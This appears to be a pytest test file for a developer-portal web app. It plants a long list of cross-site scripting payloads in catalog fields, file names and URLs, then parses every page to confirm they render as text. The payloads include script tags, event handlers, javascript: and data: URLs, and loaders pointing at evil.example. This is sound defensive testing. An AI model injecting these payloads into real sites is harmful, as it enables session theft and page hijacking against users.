"""Markup in every field that comes from outside stays text on every page that shows it.

The payloads are of the well-known shapes: tags, attributes, URLs, templates, broken encodings. Each
stands in every free field of a descriptor, in commit-like file names, in rejected documents and in
addresses. The pages are read as HTML: what would run, or load from elsewhere, is a fault.
"""

import json
from collections.abc import Iterator
from datetime import UTC, datetime
from html.parser import HTMLParser
from itertools import count
from urllib.parse import quote, urlsplit

import pytest
from browsing import walked

from callboard_web.app import create_app
from callboard_web.testing import SOURCE, PortalUnderTest, portal_under_test

pytestmark = pytest.mark.slow  # walks every page of the demo

MARK = "xss7q"
"""Stands in each payload, so that it is found where it was shown."""

PAYLOADS = (
    f"<script>{MARK}()</script>",
    f"<ScRiPt src=//evil.example/{MARK}.js></sCrIpT>",
    f"<img src=x onerror={MARK}()>",
    f'"><svg/onload={MARK}()>',
    f"' autofocus onfocus={MARK}() x='",
    f"`onmouseover={MARK}()`",
    f"</title><base href=//evil.example/{MARK}/>",
    f"</textarea></style></script></noscript><iframe srcdoc='<script>{MARK}()</script>'>",
    f"<a href=javascript:{MARK}()>x</a>",
    f"<a href='java&#10;script:{MARK}()'>x</a>",
    f"<form action=//evil.example/{MARK}><input type=submit>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<object data=//evil.example/{MARK}></object><embed src=//evil.example/{MARK}>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={MARK}()>",
    f"<div style=background:url(//evil.example/{MARK})>",
    f"<details open ontoggle={MARK}()>",
    f"<x hx-get=//evil.example/{MARK} hx-trigger=load>",
    f"<template shadowrootmode=open><script>{MARK}()</script></template>",
    f"{{{{ {MARK}.__class__.__mro__ }}}}{{% set x = {MARK} %}}${{{MARK}}}#{{{MARK}}}",
    f"<!--><img src=x onerror={MARK}()>-->",
    f"<![CDATA[<script>{MARK}()</script>]]>",
    f"%3Cscript%3E{MARK}()%3C/script%3E",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"＜script＞{MARK}()＜/script＞",
    f"\u2028<script>{MARK}()</script>\u2029\u202e",
    f'[x](javascript:{MARK}()) ![x](x"onerror="{MARK}())',
)
ADDRESSES = (
    f"javascript:{MARK}()",
    f"JaVaScRiPt:{MARK}()",
    f"\tjavascript:{MARK}()",
    f"data:text/html,<script>{MARK}()</script>",
    f"vbscript:{MARK}",
    f"//evil.example/{MARK}",
    f'https://good.example/{MARK}?"onclick="{MARK}()',
)
LOADING = {
    "script": "src", "img": "src", "iframe": "src", "embed": "src", "object": "data",
    "link": "href", "source": "src", "video": "src", "audio": "src", "base": "href",
    "form": "action", "input": "formaction", "button": "formaction", "use": "href",
}  # fmt: skip
NEVER = frozenset({"base", "embed", "object", "applet", "frame", "frameset", "style"})


class Inspector(HTMLParser):
    """Reads a page and notes whatever could run or load what is not the portal's."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.shown = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {name: value or "" for name, value in attrs}
        if tag in NEVER or (tag == "meta" and "http-equiv" in attributes):
            self.faults.append(f"<{tag}>")
        for name, value in attributes.items():
            self._attribute(tag, name, value)
        if tag == "script" and not attributes.get("src", "").startswith("/static/"):
            self.faults.append("<script> within the page")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        self.shown += MARK in value
        if name.startswith(("on", "hx-on")) or name in ("style", "srcdoc", "shadowrootmode"):
            self.faults.append(f"{name} of <{tag}>")
        address = value.strip().lower().replace("\t", "").replace("\n", "")
        if name in ("href", "src", "action", "formaction", "data", "hx-get", "hx-post"):
            if address.startswith(("javascript:", "vbscript:", "data:text")):
                self.faults.append(f"{name}={value[:60]!r} of <{tag}>")
            loads = LOADING.get(tag) == name or name.startswith("hx-")
            if loads and urlsplit(address).netloc:
                self.faults.append(f"<{tag} {name}={value[:60]!r}> from elsewhere")

    def handle_data(self, data: str) -> None:
        self.shown += MARK in data


def _documents() -> Iterator[dict[str, object]]:
    numbers = count()
    for text in PAYLOADS:
        number = next(numbers)
        metadata: dict[str, object] = {
            "name": f"thing-{number}", "title": text, "description": text,
            "annotations": {"example.com/note": text, "backstage.io/source-location": text,
                            "backstage.io/view-url": ADDRESSES[number % len(ADDRESSES)]},
            "links": [{"url": address, "title": text, "icon": text, "type": text}
                      for address in ADDRESSES if not address.startswith("//")],
        }  # fmt: skip
        spec: dict[str, object] = {"type": text, "lifecycle": text, "owner": "owners",
                                   "note": text, "list": [text, {"deep": text}]}  # fmt: skip
        yield {"kind": "Component", "metadata": metadata, "spec": spec}
        yield {"kind": "API", "metadata": metadata, "spec": {**spec, "definition": text}}
        profile = {"displayName": text, "email": text, "picture": ADDRESSES[number % 7]}
        named = {**metadata, "name": f"person-{number}"}
        yield {"kind": "User", "metadata": named,
               "spec": {"memberOf": ["owners"], "profile": profile}}  # fmt: skip
        # Each of these is rejected, and shown with its reason.
        yield {"kind": "Component", "metadata": {"name": text}, "spec": spec}
        yield {"kind": text, "metadata": metadata, "spec": spec}
        links = [{"url": text, "title": text}, {"url": f"//evil.example/{MARK}"}]
        yield {"kind": "Component", "spec": spec, "metadata": {"name": "l", "links": links}}
        yield {"kind": "Component", "metadata": {**metadata, "tags": [text], "name": f"t-{number}"},
               "spec": {**spec, "owner": text, "dependsOn": [text]}}  # fmt: skip
    yield {"kind": "Group", "metadata": {"name": "owners", "title": PAYLOADS[3]},
           "spec": {"type": PAYLOADS[2], "children": []}}  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PortalUnderTest]:
    folder = tmp_path_factory.mktemp("xss")
    settings = {"portal": {"title": PAYLOADS[2], "organisation": PAYLOADS[0]}}
    with portal_under_test(
        folder, plugins=None, settings=settings, clock=lambda: datetime.now(UTC), templates={}
    ) as portal:
        documents = [
            json.dumps({"apiVersion": "backstage.io/v1alpha1", **document}, ensure_ascii=False)
            for document in _documents()
        ]
        catalog = folder / "catalog"
        (catalog / f"<img onerror={MARK}>.yaml").write_text("\n---\n".join(documents), "utf-8")
        (catalog / f"broken {MARK}'\"><b>.yaml").write_text(f"a: [{PAYLOADS[0]}\n", "utf-8")
        portal.runtime.engine.read(SOURCE)
        portal.runtime.jobs.run_once()
        # All payloads are served, but for the fields that take no such text at all.
        assert portal.runtime.catalog.counts()["component"] == len(PAYLOADS)
        yield portal


@pytest.fixture(scope="module")
def paths(hostile: PortalUnderTest) -> set[str]:
    """Give the addresses of every page, and of every thing with a payload of its own."""
    found = {path for path, status in walked(create_app(hostile.runtime)) if status == 200}
    found |= {f"/catalog/default/component/thing-{number}" for number in range(len(PAYLOADS))}
    return found | {f"/catalog/default/api/thing-{number}" for number in range(0, len(PAYLOADS), 5)}


def _faults(page: str) -> tuple[list[str], int]:
    inspector = Inspector()
    inspector.feed(page)
    inspector.close()
    return inspector.faults, inspector.shown


def test_the_inspector_finds_what_it_looks_for() -> None:
    bare = [text for text in PAYLOADS if text.startswith(("<", '"><', "</"))]
    found = [text for text in bare if _faults(text)[0]]
    harmless = {text for text in bare if text not in found}
    # A comment, text, and markup that needs a parser of its own.
    assert all(text.startswith(("<!", "<x")) or "evil" not in text for text in harmless)
    assert len(found) > len(bare) * 3 // 4


@pytest.mark.parametrize("language", ["en", "zh-CN"])
def test_payloads_are_text_on_every_page(
    hostile: PortalUnderTest, paths: set[str], language: str
) -> None:
    client = hostile.client
    client.cookies.set("callboard_language", language)
    wrong = []
    shown = 0
    for path in sorted(paths):
        page = client.get(path, headers={"accept": "text/html"}).text
        faults, marks = _faults(page)
        shown += marks
        wrong += [f"{path}: {fault}" for fault in faults]
    assert wrong == [], "\n".join(wrong[:30])
    # It was shown, and in many places: else this test would prove nothing.
    assert shown > 500


@pytest.mark.parametrize(
    "path",
    ["/search?q={}", "/catalog?q={}", "/catalog?kind={}&owner={}&tag={}", "/catalog/default/{}/x",
     "/catalog/{}/component/x", "/{}", "/problems?source={}", "/plugins/{}", "/sources/{}",
     "/teams?q={}", "/people?q={}", "/views/new?{}", "/activity?what={}", "/search/palette?q={}"],
)  # fmt: skip
def test_what_stands_in_addresses_is_text(hostile: PortalUnderTest, path: str) -> None:
    for text in (*PAYLOADS, *ADDRESSES):
        address = path.replace("{}", quote(text, safe=""))
        answer = hostile.client.get(address, headers={"accept": "text/html"})
        assert answer.status_code < 500, address
        if "html" in answer.headers["content-type"]:
            assert _faults(answer.text)[0] == [], address


def test_files_that_are_downloaded_are_no_pages(hostile: PortalUnderTest) -> None:
    for path in ("/catalog/default/component/thing-0/raw/download", "/catalog/export/csv"):
        answer = hostile.client.get(path)
        assert answer.status_code == 200
        assert "html" not in answer.headers["content-type"]
        assert answer.headers["content-disposition"].startswith("attachment")
